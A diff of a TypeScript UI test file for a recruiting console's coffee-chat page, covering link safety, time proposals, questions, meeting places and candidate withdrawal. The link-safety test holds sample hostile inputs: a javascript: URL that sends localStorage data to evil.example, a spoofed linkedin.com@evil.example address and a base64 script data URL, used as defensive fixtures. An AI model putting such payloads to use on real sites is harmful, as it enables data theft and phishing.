@@ -6,7 +6,7 @@ import { COFFEECHAT, coffeechat, listed } from '../testing/samples/coffeechats.t
 import { sampleId } from '../testing/samples/ids.ts'
 import { test } from '../testing/screen-test.tsx'
 
-/** Whom the company meets, when, and what was asked (TRUST-4, OFR-11, OFR-13). */
+/** A coffee chat of the company: times, questions and disclosure (TRUST-4, OFR-11, OFR-13). */
 
 const STARTS = ['2026-11-16T14:00:00+09:00', '2026-11-16T15:30:00+09:00']
 const times = STARTS.map((startsAt, place) => ({
@@ -17,7 +17,7 @@ const times = STARTS.map((startsAt, place) => ({
   canConfirm: false,
 }))
 
-test('[VAL-8] links open elsewhere, and what is no web address is text', async ({ api, open }) => {
+test('[VAL-8] links open in a new tab, and an invalid address is plain text', async ({ api, open }) => {
   const script = 'javascript:fetch("//evil.example/"+localStorage.length)'
   const pretending = 'https://linkedin.com@evil.example/in/gaon'
   const page64 = 'data:text/html;base64,PHNjcmlwdD4='
@@ -41,7 +41,30 @@ test('[VAL-8] links open elsewhere, and what is no web address is text', async (
   await expect.element(shared.getByRole('link')).toHaveAttribute('rel', 'noopener noreferrer')
 })
 
-test('[TRUST-4] times are proposed, up to five of them', async ({ api, open }) => {
+test('[OFR-18] contacts from before the match stand under one row that says how many they are', async ({
+  api,
+  open,
+}) => {
+  const asked = ['010-2222-3333', 'gaon@example.com', 'https://gaon.example/cv'].map((text) => ({
+    kind: 'ASKED_CONTACT' as const,
+    text,
+    url: null,
+  }))
+  const disclosure = [{ kind: 'NAME' as const, text: '노가온', url: null }, ...asked]
+  api.answers('GET /console/coffeechats/:id', coffeechat({ disclosure }))
+  await open(`/coffeechats/${COFFEECHAT}`)
+  const shared = page.getByRole('region', { name: '연락처와 자료' })
+  const texts = (role: 'term' | 'definition') =>
+    shared
+      .getByRole(role)
+      .elements()
+      .map(({ textContent }) => textContent)
+  await expect.poll(() => texts('term')).toEqual(['이름', '이름 없이 물을 때 적은 연락처 3개'])
+  expect(texts('definition')).toEqual(['노가온', ...asked.map(({ text }) => text)])
+  await expect.element(shared.getByRole('link')).not.toBeInTheDocument()
+})
+
+test('[TRUST-4] up to five times are proposed', async ({ api, open }) => {
   api.answers('GET /console/coffeechats/:id', coffeechat())
   api.answers('POST /console/coffeechats/:id/times', coffeechat({ status: 'PROPOSED', timeItems: times }))
   await open(`/coffeechats/${COFFEECHAT}`)
@@ -62,7 +85,7 @@ test('[TRUST-4] times are proposed, up to five of them', async ({ api, open }) =
   ])
 })
 
-test('[TRUST-4] times whose answer was lost are proposed once, and other times are another proposal', async ({
+test('[TRUST-4] times are proposed once after a lost answer; other times are a new proposal', async ({
   api,
   open,
 }) => {
@@ -87,7 +110,7 @@ test('[TRUST-4] times whose answer was lost are proposed once, and other times a
   expect(other).not.toBe(first)
 })
 
-test('[TRUST-4] one of the candidate’s times is taken', async ({ api, open }) => {
+test('[TRUST-4] one of the candidate’s times is accepted', async ({ api, open }) => {
   const [time] = times
   const theirs = { ...time!, proposedBy: 'candidate' as const, canConfirm: true }
   api.answers('GET /console/coffeechats/:id', coffeechat({ status: 'PROPOSED', timeItems: [theirs] }))
@@ -105,7 +128,7 @@ test('[TRUST-4] one of the candidate’s times is taken', async ({ api, open }) 
   ).toEqual([theirs.id])
 })
 
-test('[OFR-11] questions are asked, and what was answered stands with them', async ({ api, open }) => {
+test('[OFR-11] questions are asked, and answered ones show the answer', async ({ api, open }) => {
   const question = '가장 아끼는 화면은 무엇인가요?'
   api.answers('GET /console/coffeechats/:id', coffeechat())
   const asked = coffeechat({ questions: [{ id: sampleId(321), question, answer: null }] })
@@ -122,10 +145,7 @@ test('[OFR-11] questions are asked, and what was answered stands with them', asy
   ])
 })
 
-test('[OFR-11] of a coffee chat that is over and had no questions, none are told of', async ({
-  api,
-  open,
-}) => {
+test('[OFR-11] a past coffee chat without questions does not mention them', async ({ api, open }) => {
   const over = coffeechat({ status: 'CANCELLED', name: '' })
   api.answers('GET /console/coffeechats/:id', over)
   await open(`/coffeechats/${COFFEECHAT}`)
@@ -134,7 +154,7 @@ test('[OFR-11] of a coffee chat that is over and had no questions, none are told
   await expect.element(page.getByRole('region', { name: '만나기 전에 물어본 것' })).not.toBeInTheDocument()
 })
 
-test('[PRO-14] whoever leaves loses name and contact on the open page at once, and a meeting that was stays one', async ({
+test('[PRO-14] leaving removes name and contact from the open page, and a past meeting stays', async ({
   api,
   open,
 }) => {
@@ -149,7 +169,16 @@ test('[PRO-14] whoever leaves loses name and contact on the open page at once, a
     canAnswer: false,
     said: 'MET' as const,
   }
-  const gone = { name: '', disclosure: [], confirmedTime: null, timeItems: [], outcome, stageItems: [] }
+  const hire = { startsOn: '2026-12-01', basePay: 6_700 }
+  const hired = {
+    stage: 'HIRED' as const,
+    onDay: '2026-11-16',
+    hire,
+    isAgreed: true,
+    candidateHire: null,
+    isHire: true,
+  }
+  const gone = { name: '', disclosure: [], confirmedTime: null, timeItems: [], outcome, stageItems: [hired] }
   api.answers('GET /console/coffeechats/:id', coffeechat({ candidateId, status: 'DONE', ...gone }))
   const gate = api.holds('GET /console/coffeechats/:id')
   api.tells('GET /console/stream', { id: '1', name: 'left', data: { candidateId } })
@@ -157,16 +186,18 @@ test('[PRO-14] whoever leaves loses name and contact on the open page at once, a
   gate.open()
   await expect.element(page.getByRole('heading', { name: '탈퇴한 후보자' })).toBeVisible()
   await expect.element(page.getByRole('heading', { name: '만났어요' })).toBeVisible()
+  await expect.element(page.getByRole('region', { name: '채용이 확정됐어요' })).toBeVisible()
+  await expect.element(page.getByText(/취소/)).not.toBeInTheDocument()
 })
 
-describe('[OFR-19] where the two meet', () => {
+describe('[OFR-19] the place of the meeting', () => {
   const PLACE = 'PATCH /console/coffeechats/:id/place'
   const CAFE = { kind: 'ADDRESS', text: '서울 성동구 연무장길 7, 2층' } as const
   const CALL = { kind: 'LINK', text: 'https://meet.example.com/abc-defg' } as const
   const unplaced = page.getByRole('region', { name: '어디에서 만날까요?' })
   const placed = page.getByRole('region', { name: '여기서 만나요' })
 
-  test('the usual place comes first, and is taken with one tap', async ({ api, open }) => {
+  test('the usual place comes first and is set with one press', async ({ api, open }) => {
     api.answers('GET /console/coffeechats/:id', coffeechat({ usualPlace: CAFE }))
     api.answers(PLACE, coffeechat({ usualPlace: CAFE, place: CAFE }))
     await open(`/coffeechats/${COFFEECHAT}`)
@@ -178,7 +209,7 @@ describe('[OFR-19] where the two meet', () => {
     expect(api.sent(PLACE).map(({ body }) => body)).toEqual([{ place: CAFE, isUsual: false }])
   })
 
-  test('another is typed and kept as the usual one; what is wrong is told', async ({ api, open }) => {
+  test('another place is typed and saved as the usual one; problems are shown', async ({ api, open }) => {
     api.answers('GET /console/coffeechats/:id', coffeechat())
     api.answers(PLACE, coffeechat({ place: CALL }))
     await open(`/coffeechats/${COFFEECHAT}`)
@@ -207,7 +238,7 @@ describe('[OFR-19] where the two meet', () => {
     await expect.element(placed.getByRole('checkbox')).not.toBeInTheDocument()
   })
 
-  test('is read, not changed, once it has begun; and the list shows it', async ({ api, open }) => {
+  test('a place is read-only once the meeting has begun, and the list shows it', async ({ api, open }) => {
     const confirmedTime = {
       id: sampleId(311),
       startsAt: '2026-11-15T11:00:00+09:00',
@@ -225,7 +256,7 @@ describe('[OFR-19] where the two meet', () => {
     await expect.element(placed.getByRole('button')).not.toBeInTheDocument()
   })
 
-  test('of a coffee chat that was cancelled meanwhile is not set', async ({ api, open }) => {
+  test('a place of a meeting cancelled meanwhile is not set', async ({ api, open }) => {
     api.answers('GET /console/coffeechats/:id', coffeechat({ usualPlace: CAFE }))
     api.refuses(PLACE, 'CONFLICT')
     await open(`/coffeechats/${COFFEECHAT}`)
